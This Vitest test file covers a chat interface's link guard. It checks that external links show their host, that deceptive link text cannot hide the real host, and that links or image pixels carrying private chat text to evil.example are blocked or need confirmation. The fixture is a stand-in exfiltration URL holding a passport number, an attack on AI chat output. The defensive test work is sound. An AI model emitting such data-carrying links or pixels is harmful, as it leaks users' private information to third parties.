// @vitest-environment happy-dom
import { cleanup, screen, within } from '@testing-library/react'
import { afterEach, expect, test, vi } from 'vitest'
import { renderPage } from '../../../testing/render-page.tsx'
import { ChatContext } from '../chat-context.ts'
import { openConversation } from '../conversation/conversation.ts'
import { ownMessage } from '../conversation/message.ts'
import { Markdown } from '../markdown/markdown.tsx'
import { LinkGuard } from './link-guard.tsx'

afterEach(() => {
  cleanup()
  vi.unstubAllGlobals()
})

const secret = 'https://evil.example/?p=C01X00T47'

function show(answer: string) {
  const asking = () => {
    throw new Error('nobody asks here')
  }
  const said = [ownMessage('My passport number is C01X00T47')]
  const conversation = openConversation({ id: 'c', sessionId: 's', keepsWords: false }, { asking }, said)
  return renderPage(
    <ChatContext value={{ conversation, name: 'Guide', agentId: undefined, canRevise: false }}>
      <LinkGuard starters={[]}>
        <Markdown text={answer} />
      </LinkGuard>
    </ChatContext>,
  )
}

test('a link away says where it leads, unless its words are the address', () => {
  show('[The guide](https://docs.example/start) and https://plain.example/page')
  const guide = screen.getByRole('link', { name: 'The guide' })
  expect(guide.getAttribute('rel')).toBe('noopener noreferrer nofollow')
  expect(guide.nextSibling?.textContent).toBe(' (docs.example)')
  expect(screen.queryByText('(plain.example)')).toBeNull()
})

test('words that pretend to be another address do not hide the host', () => {
  show('[https://bank.example](https://evil.example/) and [bank.example](https://evil.example/x)')
  expect(screen.getAllByText('(evil.example)')).toHaveLength(2)
})

test('84: a link that carries private text has no address in the page and shows all of it when pressed', async () => {
  const opened = vi.fn()
  vi.stubGlobal('open', opened)
  const person = show(`[Continue](${secret})`)
  expect(screen.queryByRole('link')).toBeNull()
  await person.click(screen.getByRole('button', { name: 'Continue' }))
  const dialog = await screen.findByRole('dialog', { name: 'Open evil.example?' })
  expect(within(dialog).getByLabelText('The whole address').textContent).toBe(secret)
  expect(dialog.querySelector('mark')?.textContent).toBe('C01X00T47')

  await person.click(within(dialog).getByRole('button', { name: 'Cancel' }))
  expect(opened).not.toHaveBeenCalled()
  await person.click(screen.getByRole('button', { name: 'Continue' }))
  await person.click(within(await screen.findByRole('dialog')).getByRole('button', { name: 'Open' }))
  expect(opened).toHaveBeenCalledExactlyOnceWith(secret, '_blank', 'noopener,noreferrer')
})

test('84: a picture from elsewhere is named with its host and never loaded', () => {
  show(`![A cat](https://pictures.example/cat.png) ![pixel](${secret})`)
  expect(document.querySelector('img')).toBeNull()
  expect(screen.getByRole('link', { name: 'Picture: A cat' }).nextSibling?.textContent).toBe(
    ' (pictures.example)',
  )
  expect(screen.getByRole('button', { name: 'Picture: pixel' })).toBeDefined()
})
